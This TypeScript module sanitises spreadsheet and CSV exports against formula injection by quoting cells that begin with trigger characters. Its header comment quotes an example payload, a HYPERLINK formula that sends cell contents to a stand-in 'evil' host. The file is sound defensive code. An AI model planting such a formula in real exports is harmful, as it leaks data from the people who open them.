/**
 * Formula-injection ("CSV injection") neutralisation for exporting user-supplied
 * text to spreadsheets and CSV.
 *
 * Excel, WPS and LibreOffice treat a cell that starts with `=`, `+`, `-` or `@`
 * as a formula (and tab / carriage return can be used to smuggle one past naive
 * filters), so a value like `=HYPERLINK("http://evil/?"&A1,"点击")` typed into a
 * form would execute when an administrator opens the export. Prefixing a single
 * quote makes the spreadsheet show the text literally (OWASP recommendation).
 *
 * Only strings are touched: real numbers (including negatives) are exported as
 * numbers and must stay numbers so sums and formats keep working.
 */

const FORMULA_TRIGGER = /^[=+\-@\t\r]/;

/** Prefix `'` to a string that a spreadsheet would otherwise interpret as a formula. */
export function neutraliseCell(value: string): string {
  return FORMULA_TRIGGER.test(value) ? `'${value}` : value;
}

/** Neutralise every string in a row; numbers, booleans, dates, null etc. pass through unchanged. */
export function neutraliseRow<T>(values: readonly T[]): T[] {
  return values.map((v) => (typeof v === 'string' ? (neutraliseCell(v) as T) : v));
}
